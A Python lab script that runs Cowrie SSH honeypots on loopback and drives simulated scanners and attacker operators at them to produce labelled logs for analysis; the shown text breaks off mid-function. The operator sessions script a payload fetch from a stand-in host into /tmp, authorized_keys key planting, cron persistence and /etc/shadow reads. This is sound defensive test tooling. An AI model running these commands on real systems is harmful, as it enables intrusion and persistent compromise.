#!/usr/bin/env python3
"""A real-Cowrie lab: start Cowrie on loopback, drive a known world at it.

Starts one Cowrie honeypot per sensor name (each as the unprivileged
`cowrie` user, on a free 127.0.0.1 port, with a private state directory and
a cowrie.cfg written here), drives a deterministic WORLD with real SSH
clients (paramiko, asyncssh, OpenSSH) from many loopback source addresses,
stops Cowrie cleanly and writes, in the output directory:

  <sensor>.json   Cowrie's own JSON log for that sensor
  truth.json      for every source IP: its identity and campaign label
  state/<sensor>/ Cowrie's state (TTY logs under var/lib/cowrie/tty; the
                  paths in the JSON log are relative to this directory)

The world (same truth for the same seed and size):
  * library scanners (paramiko), one IP each, wordlist credentials and
    stock commands; each its own identity and its own campaign;
  * a prober that drops the connection before key exchange;
  * operator A (asyncssh and paramiko, 4 IPs, one unique password) on the
    hand-off sensor: discovery and a download, then persistence (plants its
    public key in ~/.ssh/authorized_keys, adds a crontab line);
  * operator C (OpenSSH, 3 IPs, its own password) on the same sensor after
    A's last activity, starting with discovery: a phase hand-off;
  * operator B (asyncssh and paramiko, 3 IPs) logging in with the key A
    planted (a planted-key hand-off) and with its own key elsewhere.
  A, B and C are one campaign.

Run as root (Cowrie is started as the `cowrie` user) or as an unprivileged
user (Cowrie then runs as that user). Needs .ci/cowrie-setup first.
Exits non-zero with a message on any failure.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import io
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

DEFAULT_ROOT = os.environ.get("CLUSTERD_COWRIE_ROOT", "/opt/clusterd-cowrie")
DEFAULT_COWRIE_VENV = os.environ.get("CLUSTERD_COWRIE_VENV", f"{DEFAULT_ROOT}/venv")
DEFAULT_CLIENTS_VENV = os.environ.get(
    "CLUSTERD_CLIENTS_VENV", f"{DEFAULT_ROOT}/clients-venv"
)
DEFAULT_COWRIE_USER = os.environ.get("CLUSTERD_COWRIE_USER", "cowrie")


def _ensure_client_libraries() -> None:
    """Re-run under the clients' virtualenv when paramiko/asyncssh are absent."""
    try:
        import asyncssh  # noqa: F401
        import paramiko  # noqa: F401
    except ImportError:
        python = Path(DEFAULT_CLIENTS_VENV, "bin", "python")
        if python.exists() and Path(sys.executable).resolve() != python.resolve():
            os.execv(str(python), [str(python), *sys.argv])
        sys.exit(
            f"lab: paramiko and asyncssh are not importable and {python} does not "
            "exist; run .ci/cowrie-setup first"
        )


_ensure_client_libraries()

import asyncio  # noqa: E402

import asyncssh  # noqa: E402
import paramiko  # noqa: E402
from cryptography.hazmat.primitives import serialization  # noqa: E402
from cryptography.hazmat.primitives.asymmetric.ed25519 import (  # noqa: E402
    Ed25519PrivateKey,
)

# How long Cowrie may take to start listening (it generates host keys on
# first start).
COWRIE_START_TIMEOUT = 60.0
# How long Cowrie may take to exit after SIGTERM before it is killed.
COWRIE_STOP_TIMEOUT = 20.0
# How long after the world ends every session must appear closed in the log.
SESSIONS_CLOSED_TIMEOUT = 30.0
# One SSH step (connect, key exchange, authentication, one command's output).
CLIENT_STEP_TIMEOUT = 20.0
# A hand-off: C arrives this long after A's last activity on the sensor.
HANDOFF_GAP = 4.0
# How many scanner sessions run at once.
SCANNER_PARALLELISM = 4

# Cowrie's emulated shell prompt ends in "# " (root) or "$ " once it waits for
# input; escape sequences may follow nothing else.
PROMPT = re.compile(r"[#$] $")


def log(message: str) -> None:
    print(f"lab: {message}", flush=True)


class LabError(Exception):
    """A failure of the lab itself (Cowrie, a client, the world)."""


# --------------------------------------------------------------------------
# Cowrie instances
# --------------------------------------------------------------------------

# Written for this lab; the section and key names are Cowrie's
# (cowrie.cfg.dist of the pinned version documents each one).
COWRIE_CFG = """\
[honeypot]
sensor_name = {sensor}
hostname = {hostname}
# relative to the instance directory, Cowrie's default layout
log_path = var/log/cowrie
download_path = var/lib/cowrie/downloads
state_path = var/lib/cowrie
etc_path = etc
ttylog = true
ttylog_path = var/lib/cowrie/tty
logtype = plain
idle_timeout = 60
authentication_timeout = 60
# Downloads go out from loopback, so an attempt to a public address fails at
# once on this host instead of leaving it; Cowrie still logs the attempt.
out_addr = 127.0.0.1

[ssh]
enabled = true
listen_endpoints = tcp:{port}:interface=127.0.0.1
# Accept any public key: the lab's operators log in with keys they planted
# or own. Cowrie logs the key and its fingerprint either way.
auth_publickey_allow_any = true
sftp_enabled = false
forwarding = false

[telnet]
enabled = false

[output_jsonlog]
enabled = true
logfile = {json_log}
epoch_timestamp = false

[output_textlog]
enabled = false
"""

# Which username/password pairs the emulated host accepts. Cowrie's userdb
# syntax: user:x:password, "!" denies, "*" is any.
USERDB = """\
root:x:!root
root:x:!123456
root:x:!toor
root:x:*
admin:x:admin
admin:x:1234
pi:x:raspberry
ubuntu:x:ubuntu
"""


def free_loopback_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def loopback_listening(port: int) -> bool:
    """Whether a TCP socket listens on 127.0.0.1:port (from /proc/net/tcp)."""
    wanted = f"0100007F:{port:04X}"
    try:
        with open("/proc/net/tcp") as table:
            next(table)
            for row in table:
                fields = row.split()
                if fields[1] == wanted and fields[3] == "0A":  # 0A: LISTEN
                    return True
    except OSError as e:
        raise LabError(f"cannot read /proc/net/tcp: {e}") from e
    return False


@dataclass
class CowrieInstance:
    """One running Cowrie: a sensor, its directory, its port, its process."""

    sensor: str
    hostname: str
    directory: Path
    json_log: Path
    venv: Path
    user: str | None
    port: int = 0
    process: subprocess.Popen | None = None
    console: io.BufferedWriter | None = None

    def write_config(self) -> None:
        etc = self.directory / "etc"
        for sub in ("etc", "var/log/cowrie", "var/lib/cowrie/downloads",
                    "var/lib/cowrie/tty", "var/run"):
            (self.directory / sub).mkdir(parents=True, exist_ok=True)
        self.port = free_loopback_port()
        (etc / "cowrie.cfg").write_text(COWRIE_CFG.format(
            sensor=self.sensor, hostname=self.hostname, port=self.port,
            json_log=self.json_log))
        (etc / "userdb.txt").write_text(USERDB)
        self.json_log.write_text("")  # a fresh log for every run
        if self.user is not None:
            import pwd
            pw = pwd.getpwnam(self.user)
            for path in [self.directory, self.json_log,
                         *self.directory.rglob("*")]:
                os.chown(path, pw.pw_uid, pw.pw_gid)

    def start(self) -> None:
        twistd = self.venv / "bin" / "twistd"
        if not twistd.exists():
            raise LabError(f"{twistd} is missing; run .ci/cowrie-setup first")
        env = {
            "PATH": f"{self.venv / 'bin'}:/usr/bin:/bin",
            "HOME": str(self.directory),
            "TZ": "UTC",
            "PYTHONDONTWRITEBYTECODE": "1",
            "LANG": "C.UTF-8",
        }
        command = [str(twistd), "-n", "--umask=0022", "--pidfile=",
                   "--logger", "cowrie.python.logfile.stdoutLogger", "cowrie"]
        kwargs = {}
        if self.user is not None:
            import pwd
            pw = pwd.getpwnam(self.user)
            kwargs = {"user": pw.pw_uid, "group": pw.pw_gid, "extra_groups": []}
        self.console = open(self.directory / "console.log", "wb")
        log(f"starting Cowrie sensor {self.sensor} on 127.0.0.1:{self.port}")
        self.process = subprocess.Popen(
            command, cwd=self.directory, env=env, stdin=subprocess.DEVNULL,
            stdout=self.console, stderr=subprocess.STDOUT, start_new_session=True,
            **kwargs)

    def wait_listening(self) -> None:
        """Poll until the port answers with an SSH banner (with a deadline)."""
        deadline = time.monotonic() + COWRIE_START_TIMEOUT
        while time.monotonic() < deadline:
            if self.process is not None and self.process.poll() is not None:
                raise LabError(
                    f"Cowrie {self.sensor} exited with {self.process.returncode} "
                    f"while starting; see {self.directory / 'console.log'}:\n"
                    f"{self.console_tail()}")
            # Look for the listening socket instead of connecting: a probe
            # connection would be logged as a session of its own.
            if loopback_listening(self.port):
                return
            time.sleep(0.1)
        raise LabError(f"Cowrie {self.sensor} did not listen on 127.0.0.1:"
                       f"{self.port} within {COWRIE_START_TIMEOUT:.0f}s:\n"
                       f"{self.console_tail()}")

    def console_tail(self) -> str:
        try:
            lines = (self.directory / "console.log").read_text(
                errors="replace").splitlines()
        except OSError:
            return "(no console log)"
        return "\n".join(lines[-25:])

    def stop(self) -> None:
        if self.process is None:
            return
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(COWRIE_STOP_TIMEOUT)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
                raise LabError(f"Cowrie {self.sensor} did not stop within "
                               f"{COWRIE_STOP_TIMEOUT:.0f}s of SIGTERM; killed")
        if self.console is not None:
            self.console.close()
        status, self.process = self.process.returncode, None
        # twistd re-raises the SIGTERM it handled once it has shut down, so a
        # clean stop reports -SIGTERM.
        if status not in (0, -signal.SIGTERM):
            raise LabError(f"Cowrie {self.sensor} exited with status {status}:\n"
                           f"{self.console_tail()}")
        log(f"stopped Cowrie sensor {self.sensor}")

    def events(self) -> list[dict]:
        records = []
        for line in self.json_log.read_text(errors="replace").splitlines():
            if line.strip():
                records.append(json.loads(line))
        return records


# --------------------------------------------------------------------------
# Keys
# --------------------------------------------------------------------------


@dataclass
class Ed25519:
    """A deterministic ed25519 key pair in the forms the clients take."""

    private: Ed25519PrivateKey
    comment: str

    @classmethod
    def from_rng(cls, rng: random.Random, comment: str) -> "Ed25519":
        seed = bytes(rng.getrandbits(8) for _ in range(32))
        return cls(Ed25519PrivateKey.from_private_bytes(seed), comment)

    def openssh_private(self) -> str:
        return self.private.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
            serialization.NoEncryption()).decode()

    def public_line(self) -> str:
        blob = self.private.public_key().public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
        return f"{blob.decode()} {self.comment}"

    def sha256_fingerprint(self) -> str:
        blob = base64.b64decode(self.public_line().split()[1])
        digest = base64.b64encode(hashlib.sha256(blob).digest()).decode()
        return "SHA256:" + digest.rstrip("=")

    def paramiko_key(self) -> paramiko.PKey:
        return paramiko.Ed25519Key(file_obj=io.StringIO(self.openssh_private()))

    def asyncssh_key(self) -> asyncssh.SSHKey:
        return asyncssh.import_private_key(self.openssh_private())


# --------------------------------------------------------------------------
# The clients
# --------------------------------------------------------------------------


@dataclass
class Rhythm:
    """An operator's typing: a base inter-key delay and its spread (seconds).

    Interactive sessions send one keystroke per SSH packet, so Cowrie's TTY
    log records each key with its own time stamp."""

    base: float
    spread: float
    rng: random.Random

    def delay(self, previous: str, current: str) -> float:
        # Digraphs across hand rows and shifted keys are slower for everyone;
        # each operator's base and spread make the signature.
        extra = 0.0
        if current in " ;|&" or previous in " ;|&":
            extra += self.base * 0.6
        if current.isupper() or current in '!"#$%&()*:<>?@^_{}|~':
            extra += self.base * 0.4
        return max(0.004, self.base + extra + self.rng.uniform(-1, 1) * self.spread)


@dataclass
class Target:
    """Where a client connects: a sensor's port."""

    sensor: str
    port: int


def paramiko_transport(source_ip: str, target: Target) -> paramiko.Transport:
    sock = socket.socket()
    sock.settimeout(CLIENT_STEP_TIMEOUT)
    sock.bind((source_ip, 0))
    sock.connect(("127.0.0.1", target.port))
    transport = paramiko.Transport(sock)
    transport.start_client(timeout=CLIENT_STEP_TIMEOUT)
    return transport


def paramiko_exec(transport: paramiko.Transport, command: str) -> str:
    channel = transport.open_session(timeout=CLIENT_STEP_TIMEOUT)
    channel.settimeout(CLIENT_STEP_TIMEOUT)
    try:
        channel.exec_command(command)
    except paramiko.SSHException:
        # Cowrie runs a short command and closes the channel before paramiko
        # sees the reply to its exec request; paramiko then reports "Channel
        # closed" although the command ran (Cowrie logged it). Anything else
        # that closes the channel also closes the transport.
        if not transport.is_active():
            raise
    out = bytearray()
    deadline = time.monotonic() + CLIENT_STEP_TIMEOUT
    while True:
        chunk = channel.recv(4096)
        if not chunk:
            break
        out += chunk
        if time.monotonic() > deadline:
            raise LabError(f"paramiko exec {command!r}: no end of output within "
                           f"{CLIENT_STEP_TIMEOUT:.0f}s")
    channel.close()
    return out.decode(errors="replace")


def _read_until_prompt(read, what: str) -> str:
    """Read with `read(timeout)` (returns bytes, b"" on timeout) until the
    emulated shell shows its prompt, within CLIENT_STEP_TIMEOUT."""
    buffer = bytearray()
    deadline = time.monotonic() + CLIENT_STEP_TIMEOUT
    while time.monotonic() < deadline:
        chunk = read(0.2)
        if chunk is None:
            raise LabError(f"{what}: the session closed before the prompt")
        buffer += chunk
        if PROMPT.search(buffer.decode(errors="replace")):
            return buffer.decode(errors="replace")
    raise LabError(f"{what}: no prompt within {CLIENT_STEP_TIMEOUT:.0f}s; "
                   f"last output {bytes(buffer[-200:])!r}")


def paramiko_typed_shell(transport: paramiko.Transport, lines: list[str],
                         rhythm: Rhythm) -> None:
    channel = transport.open_session(timeout=CLIENT_STEP_TIMEOUT)
    channel.get_pty(term="xterm", width=120, height=40)
    channel.invoke_shell()

    def read(timeout: float) -> bytes | None:
        channel.settimeout(timeout)
        try:
            data = channel.recv(4096)
        except socket.timeout:
            return b""
        return data if data else None

    _typed_lines(lines, rhythm, lambda s: channel.sendall(s.encode()), read,
                 "paramiko shell")
    _wait_closed(read, "paramiko shell")
    channel.close()


def _typed_lines(lines, rhythm, send, read, what) -> None:
    for line in lines:
        _read_until_prompt(read, what)
        previous = "\n"
        for ch in line:
            send(ch)
            time.sleep(rhythm.delay(previous, ch))
            previous = ch
        send("\r")
    _read_until_prompt(read, what)
    send("exit\r")


def _wait_closed(read, what: str) -> None:
    deadline = time.monotonic() + CLIENT_STEP_TIMEOUT
    while time.monotonic() < deadline:
        if read(0.2) is None:
            return
    raise LabError(f"{what}: the shell did not close after exit")


def run_asyncssh(coroutine_factory) -> None:
    asyncio.run(coroutine_factory())


async def asyncssh_connect(source_ip: str, target: Target, *, password=None,
                           key: Ed25519 | None = None):
    options = dict(
        host="127.0.0.1", port=target.port, local_addr=(source_ip, 0),
        username="root", known_hosts=None, agent_path=None,
        connect_timeout=CLIENT_STEP_TIMEOUT, login_timeout=CLIENT_STEP_TIMEOUT,
    )
    if key is not None:
        options.update(client_keys=[key.asyncssh_key()], password=None,
                       preferred_auth="publickey")
    else:
        options.update(client_keys=None, password=password,
                       preferred_auth="password")
    return await asyncssh.connect(**options)


async def asyncssh_exec(conn, command: str) -> str:
    try:
        result = await asyncio.wait_for(conn.run(command, check=False),
                                        CLIENT_STEP_TIMEOUT)
    except AttributeError as e:
        # The same race as paramiko's "Channel closed": Cowrie finishes a
        # short command and closes the channel before asyncssh has set the
        # session up, and asyncssh trips over the missing session. The
        # command ran (Cowrie logged it); the connection is still up.
        if "session_started" not in str(e) or conn.is_closed():
            raise
        return ""
    return str(result.stdout)


async def asyncssh_typed_shell(conn, lines: list[str], rhythm: Rhythm) -> None:
    process = await conn.create_process(term_type="xterm", term_size=(120, 40),
                                        env={"LANG": "en_US.UTF-8"},
                                        encoding=None)
    loop = asyncio.get_running_loop()
    # The typing loop is synchronous (the same one every client uses); run it
    # in a thread and bridge reads and writes to this loop.

    def read(timeout: float) -> bytes | None:
        future = asyncio.run_coroutine_threadsafe(
            _asyncssh_read(process, timeout), loop)
        return future.result(timeout + CLIENT_STEP_TIMEOUT)

    def send(text: str) -> None:
        loop.call_soon_threadsafe(process.stdin.write, text.encode())

    await loop.run_in_executor(
        None, lambda: (_typed_lines(lines, rhythm, send, read, "asyncssh shell"),
                       _wait_closed(read, "asyncssh shell")))
    process.close()


async def _asyncssh_read(process, timeout: float) -> bytes | None:
    try:
        data = await asyncio.wait_for(process.stdout.read(4096), timeout)
    except asyncio.TimeoutError:
        return b""
    return data if data else None


class OpenSSH:
    """The OpenSSH client with password authentication through SSH_ASKPASS."""

    def __init__(self, workdir: Path):
        self.workdir = workdir
        self.askpass = workdir / "askpass"
        self.askpass.write_text('#!/bin/sh\nprintf "%s\\n" "$LAB_SSH_PASSWORD"\n')
        self.askpass.chmod(0o700)
        if shutil.which("ssh") is None:
            raise LabError("ssh (openssh-client) is not installed; run "
                           ".ci/cowrie-setup")

    def base_command(self, source_ip: str, target: Target, tty: bool) -> list[str]:
        return [
            "ssh", "-F", "/dev/null", "-b", source_ip, "-p", str(target.port),
            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "GlobalKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
            "-o", "PubkeyAuthentication=no", "-o", "IdentitiesOnly=yes",
            "-o", "PreferredAuthentications=password",
            "-o", "NumberOfPasswordPrompts=1", "-o", "SendEnv=LANG",
            "-o", f"ConnectTimeout={int(CLIENT_STEP_TIMEOUT)}",
            "-tt" if tty else "-T", "root@127.0.0.1",
        ]

    def env(self, password: str) -> dict:
        return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"),
                "HOME": str(self.workdir), "LANG": "C.UTF-8",
                "SSH_ASKPASS": str(self.askpass), "SSH_ASKPASS_REQUIRE": "force",
                "DISPLAY": ":0", "LAB_SSH_PASSWORD": password}

    def exec(self, source_ip: str, target: Target, password: str,
             command: str) -> str:
        argv = self.base_command(source_ip, target, tty=False)
        argv.insert(1, "-n")
        try:
            done = subprocess.run(argv + [command], env=self.env(password),
                                  capture_output=True,
                                  timeout=CLIENT_STEP_TIMEOUT, start_new_session=True)
        except subprocess.TimeoutExpired as e:
            raise LabError(f"ssh exec {command!r} from {source_ip}: timed out") from e
        if done.returncode == 255:
            raise LabError(f"ssh exec from {source_ip} failed: "
                           f"{done.stderr.decode(errors='replace').strip()}")
        return done.stdout.decode(errors="replace")

    def typed_shell(self, source_ip: str, target: Target, password: str,
                    lines: list[str], rhythm: Rhythm) -> None:
        process = subprocess.Popen(
            self.base_command(source_ip, target, tty=True), env=self.env(password),
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            start_new_session=True)
        received = bytearray()
        closed = threading.Event()
        changed = threading.Condition()

        def pump() -> None:
            while True:
                chunk = os.read(process.stdout.fileno(), 4096)
                with changed:
                    if not chunk:
                        closed.set()
                    else:
                        received.extend(chunk)
                    changed.notify_all()
                if not chunk:
                    return

        reader = threading.Thread(target=pump, daemon=True)
        reader.start()

        def read(timeout: float) -> bytes | None:
            with changed:
                if not received and not closed.is_set():
                    changed.wait(timeout)
                data = bytes(received)
                received.clear()
                if not data and closed.is_set():
                    return None
                return data

        def send(text: str) -> None:
            process.stdin.write(text.encode())
            process.stdin.flush()

        try:
            _typed_lines(lines, rhythm, send, read, f"ssh shell from {source_ip}")
            _wait_closed(read, f"ssh shell from {source_ip}")
            process.stdin.close()
            process.wait(CLIENT_STEP_TIMEOUT)
        except BaseException:
            process.kill()
            process.wait()
            raise
        if process.returncode not in (0, 1):
            raise LabError(f"ssh shell from {source_ip} exited "
                           f"{process.returncode}: "
                           f"{process.stderr.read().decode(errors='replace')}")


def failed_key_exchange(source_ip: str, target: Target, version: bytes) -> None:
    """Connect, trade version strings, and drop before key exchange."""
    with socket.socket() as s:
        s.settimeout(CLIENT_STEP_TIMEOUT)
        s.bind((source_ip, 0))
        s.connect(("127.0.0.1", target.port))
        banner = s.recv(256)
        if not banner.startswith(b"SSH-2.0-"):
            raise LabError(f"probe from {source_ip}: unexpected banner {banner!r}")
        s.sendall(version + b"\r\n")
        # Wait for Cowrie's KEXINIT so the version line is surely read.
        s.recv(4096)


# --------------------------------------------------------------------------
# The world
# --------------------------------------------------------------------------

WORDLIST = [
    ("root", "123456"), ("admin", "admin"), ("root", "root"),
    ("root", "password"), ("user", "user"), ("ubuntu", "ubuntu"),
    ("root", "12345678"), ("test", "test"), ("pi", "raspberry"),
    ("oracle", "oracle"), ("admin", "1234"), ("root", "toor"),
    ("root", "admin"), ("support", "support"),
]
STOCK_COMMANDS = [
    "uname -a", "cat /proc/cpuinfo", "uname -a; nproc",
    "cat /proc/cpuinfo | grep name | wc -l", "whoami", "free -m",
]

# Operator A: unique password, its own playbook (the "kx" tool name, the
# "a7f3c9e1" marker it echoes, the cron cadence).
A_PASSWORD = "Vx!9qLm#2026-kx"
A_DOWNLOAD = "http://1.2.3.4/k/x86_64"
C_PASSWORD = "kR7$wq!Zp0-tango"


@dataclass
class Actor:
    """A source IP and who is behind it."""

    ip: str
    identity: str
    campaign: str
    client: str


@dataclass
class World:
    seed: int
    size: str
    sensors: list[str]
    rng: random.Random
    actors: list[Actor] = field(default_factory=list)
    keys: dict[str, Ed25519] = field(default_factory=dict)
    used_ips: set[str] = field(default_factory=set)

    def new_ip(self) -> str:
        while True:
            ip = (f"127.{self.rng.randint(1, 254)}.{self.rng.randint(0, 255)}."
                  f"{self.rng.randint(1, 254)}")
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def actor(self, identity: str, campaign: str, client: str) -> Actor:
        a = Actor(self.new_ip(), identity, campaign, client)
        self.actors.append(a)
        return a

    def truth(self) -> dict:
        return {
            "world": self.size,
            "seed": self.seed,
            "handoff_sensor": self.sensors[0],
            "sensors": self.sensors,
            "sources": {a.ip: {"identity": a.identity, "campaign": a.campaign,
                               "client": a.client}
                        for a in sorted(self.actors, key=lambda a: a.ip)},
            "keys": {name: {"sha256": key.sha256_fingerprint(),
                            "public": key.public_line()}
                     for name, key in sorted(self.keys.items())},
        }


@dataclass
class ScannerPlan:
    actor: Actor
    sensor: str
    credentials: list[tuple[str, str]]
    reconnect_each_try: bool
    commands: list[str]


def plan_scanners(world: World, count: int) -> list[ScannerPlan]:
    plans = []
    for i in range(count):
        label = f"scanner-{i + 1:02d}"
        actor = world.actor(label, label, "paramiko")
        tries = world.rng.sample(WORDLIST, world.rng.randint(1, 4))
        # Most scanners run a stock command or two; some only try logins.
        commands = (world.rng.sample(STOCK_COMMANDS, world.rng.randint(1, 2))
                    if world.rng.random() < 0.75 else [])
        plans.append(ScannerPlan(actor, world.rng.choice(world.sensors), tries,
                                 world.rng.random() < 0.4, commands))
    return plans


def run_scanner(plan: ScannerPlan, targets: dict[str, Target]) -> None:
    target = targets[plan.sensor]
    transport = None
    try:
        for user, password in plan.credentials:
            if transport is None or plan.reconnect_each_try:
                if transport is not None:
                    transport.close()
                transport = paramiko_transport(plan.actor.ip, target)
            try:
                transport.auth_password(user, password)
            except paramiko.AuthenticationException:
                continue
            for command in plan.commands:
                paramiko_exec(transport, command)
            return
    finally:
        if transport is not None:
            transport.close()


def operator_a(world: World, ips: list[Actor], target: Target,
               key: Ed25519) -> None:
    rhythm = Rhythm(0.022, 0.010, random.Random(world.seed * 31 + 1))
    # A1, asyncssh, typed: discovery.
    async def a1():
        async with await asyncssh_connect(ips[0].ip, target,
                                          password=A_PASSWORD) as conn:
            await asyncssh_typed_shell(conn, [
                "echo a7f3c9e1 && cat /proc/version",
                "ls -la /root/ /tmp/; w",
                "ps aux | grep -v grep | grep -i -E 'kx|miner' || echo none",
            ], rhythm)
    run_asyncssh(a1)
    # A2, paramiko, exec: discovery, then the tool download (wget, then curl).
    t = paramiko_transport(ips[1].ip, target)
    try:
        t.auth_password("root", A_PASSWORD)
        paramiko_exec(t, "echo a7f3c9e1; uname -m; cat /etc/issue")
        paramiko_exec(t, f"cd /tmp && wget -q {A_DOWNLOAD} -O .kx || "
                         f"curl -s -o .kx {A_DOWNLOAD}; chmod +x .kx")
    finally:
        t.close()
    # A3, asyncssh, exec: persistence by planting its key; a second file by
    # shell redirect.
    async def a3():
        async with await asyncssh_connect(ips[2].ip, target,
                                          password=A_PASSWORD) as conn:
            await asyncssh_exec(
                conn, "mkdir -p ~/.ssh && chmod 700 ~/.ssh; echo "
                f"\"{key.public_line()}\" >> ~/.ssh/authorized_keys && "
                "chmod 600 ~/.ssh/authorized_keys")
            await asyncssh_exec(conn, "echo a7f3c9e1 > /tmp/.kx.id; "
                                      "cat ~/.ssh/authorized_keys")
    run_asyncssh(a3)
    # A4, paramiko, typed: persistence by cron; the session ends on it.
    t = paramiko_transport(ips[3].ip, target)
    try:
        t.auth_password("root", A_PASSWORD)
        paramiko_typed_shell(t, [
            "echo a7f3c9e1 && crontab -l",
            "(crontab -l 2>/dev/null; echo '*/7 * * * * /tmp/.kx -q >/dev/null "
            "2>&1') | crontab -",
            "echo '@reboot /tmp/.kx -q' >> /var/spool/cron/crontabs/root",
        ], rhythm)
    finally:
        t.close()


def operator_c(world: World, ips: list[Actor], target: Target,
               ssh: OpenSSH) -> None:
    rhythm = Rhythm(0.030, 0.018, random.Random(world.seed * 31 + 3))
    # C1, typed over OpenSSH: discovery first.
    ssh.typed_shell(ips[0].ip, target, C_PASSWORD, [
        "hostname; cat /etc/os-release | head -3",
        "netstat -antp 2>/dev/null || ss -antp",
        "ls -la /tmp /var/tmp /dev/shm",
        # not among Cowrie's commands: logged as cowrie.command.failed too
        "lsof -i -P -n | head -20",
    ], rhythm)
    ssh.exec(ips[1].ip, target, C_PASSWORD,
             "id && last -n 5 && cut -d: -f1 /etc/passwd")
    ssh.exec(ips[2].ip, target, C_PASSWORD,
             "cat /etc/shadow | head -5; ls -la /home/*/.ssh/ 2>/dev/null")


def operator_b(world: World, ips: list[Actor], targets: list[Target],
               planted: Ed25519, own: Ed25519) -> None:
    rhythm = Rhythm(0.016, 0.006, random.Random(world.seed * 31 + 2))
    handoff, other = targets[0], targets[-1]

    # B1 on the hand-off sensor with the key A planted there.
    async def b1_planted():
        async with await asyncssh_connect(ips[0].ip, handoff, key=planted) as conn:
            await asyncssh_typed_shell(conn, [
                "cat ~/.ssh/authorized_keys; ls -la /tmp/.kx",
                "uname -a && df -h /",
            ], rhythm)
    run_asyncssh(b1_planted)

    # B1 again, on the other sensor, with B's own key.
    async def b1_own():
        async with await asyncssh_connect(ips[0].ip, other, key=own) as conn:
            await asyncssh_exec(conn, "uname -a && df -h /; cat /etc/hostname")
    run_asyncssh(b1_own)

    # B2, paramiko with B's own key on the hand-off sensor.
    t = paramiko_transport(ips[1].ip, handoff)
    try:
        t.auth_publickey("root", own.paramiko_key())
        paramiko_exec(t, "uname -a && df -h /; cat /etc/hostname")
    finally:
        t.close()

    # B3, asyncssh with B's own key on the other sensor.
    async def b3():
        async with await asyncssh_connect(ips[2].ip, other, key=own) as conn:
            await asyncssh_typed_shell(conn, ["uname -a && df -h /",
                                              "cat /etc/hostname"], rhythm)
    run_asyncssh(b3)


def build_and_run_world(world: World, targets: dict[str, Target],
                        workdir: Path) -> None:
    scanners = plan_scanners(world, 25 if world.size == "full" else 4)
    prober = world.actor("prober-01", "prober-01", "raw-socket")
    campaign = "campaign-abc"
    a_ips = [world.actor("operator-a", campaign, c)
             for c in ("asyncssh", "paramiko", "asyncssh", "paramiko")]
    c_ips = [world.actor("operator-c", campaign, "openssh") for _ in range(3)]
    b_ips = [world.actor("operator-b", campaign, c)
             for c in ("asyncssh", "paramiko", "asyncssh")]
    world.keys["operator-a"] = Ed25519.from_rng(world.rng, "ops@a7f3")
    world.keys["operator-b"] = Ed25519.from_rng(world.rng, "b@build-07")
    handoff = targets[world.sensors[0]]
    ordered_targets = [targets[s] for s in world.sensors]
    ssh = OpenSSH(workdir)

    errors: list[str] = []

    def guarded(what: str, fn, *args) -> None:
        try:
            fn(*args)
        except Exception as e:  # reported together below
            errors.append(f"{what}: {type(e).__name__}: {e}")

    # Scanners run in the background for the whole world, as they would.
    pool = ThreadPoolExecutor(SCANNER_PARALLELISM)
    futures = [pool.submit(guarded, p.actor.identity, run_scanner, p, targets)
               for p in scanners]
    guarded("prober", failed_key_exchange, prober.ip,
            targets[world.sensors[-1]], b"SSH-2.0-libssh2_1.9.0")
    log(f"operator A from {len(a_ips)} IPs on {world.sensors[0]}")
    guarded("operator A", operator_a, world, a_ips, handoff,
            world.keys["operator-a"])
    a_done = time.monotonic()
    # C arrives after A's last activity: the world's own timing, not a wait
    # for any condition.
    time.sleep(max(0.0, HANDOFF_GAP - (time.monotonic() - a_done)))
    log(f"operator C from {len(c_ips)} IPs on {world.sensors[0]} (OpenSSH)")
    guarded("operator C", operator_c, world, c_ips, handoff, ssh)
    log(f"operator B from {len(b_ips)} IPs (planted key, own key)")
    guarded("operator B", operator_b, world, b_ips, ordered_targets,
            world.keys["operator-a"], world.keys["operator-b"])
    for f in futures:
        f.result()
    pool.shutdown()
    if errors:
        raise LabError("the world did not run cleanly:\n  " + "\n  ".join(errors))


# --------------------------------------------------------------------------
# After the world
# --------------------------------------------------------------------------


def wait_sessions_closed(instances: list[CowrieInstance]) -> None:
    """Poll each log until every connected session has a closed event."""
    deadline = time.monotonic() + SESSIONS_CLOSED_TIMEOUT
    while True:
        open_sessions = {}
        for inst in instances:
            events = inst.events()
            connected = {e["session"] for e in events
                         if e["eventid"] == "cowrie.session.connect"}
            closed = {e["session"] for e in events
                      if e["eventid"] == "cowrie.session.closed"}
            if connected - closed:
                open_sessions[inst.sensor] = sorted(connected - closed)
        if not open_sessions:
            return
        if time.monotonic() > deadline:
            raise LabError(f"sessions still open {SESSIONS_CLOSED_TIMEOUT:.0f}s "
                           f"after the world ended: {open_sessions}")
        time.sleep(0.2)


# Event ids every world produces; checked after the run.
EXPECTED_EVENTS = {
    "cowrie.session.connect", "cowrie.client.version", "cowrie.client.kex",
    "cowrie.login.failed", "cowrie.login.success", "cowrie.client.fingerprint",
    "cowrie.session.params", "cowrie.client.size", "cowrie.client.var",
    "cowrie.command.input", "cowrie.command.failed",
    "cowrie.session.file_download", "cowrie.session.file_download.failed",
    "cowrie.log.closed", "cowrie.session.closed",
}


def check_log(world: World, instances: list[CowrieInstance]) -> dict[str, int]:
    counts: dict[str, int] = {}
    by_ip: dict[str, set[str]] = {}
    for inst in instances:
        for e in inst.events():
            counts[e["eventid"]] = counts.get(e["eventid"], 0) + 1
            by_ip.setdefault(e.get("src_ip", ""), set()).add(e["eventid"])
    missing = EXPECTED_EVENTS - counts.keys()
    if missing:
        raise LabError(f"the log lacks event ids {sorted(missing)}")
    silent = [a.ip for a in world.actors if a.ip not in by_ip]
    if silent:
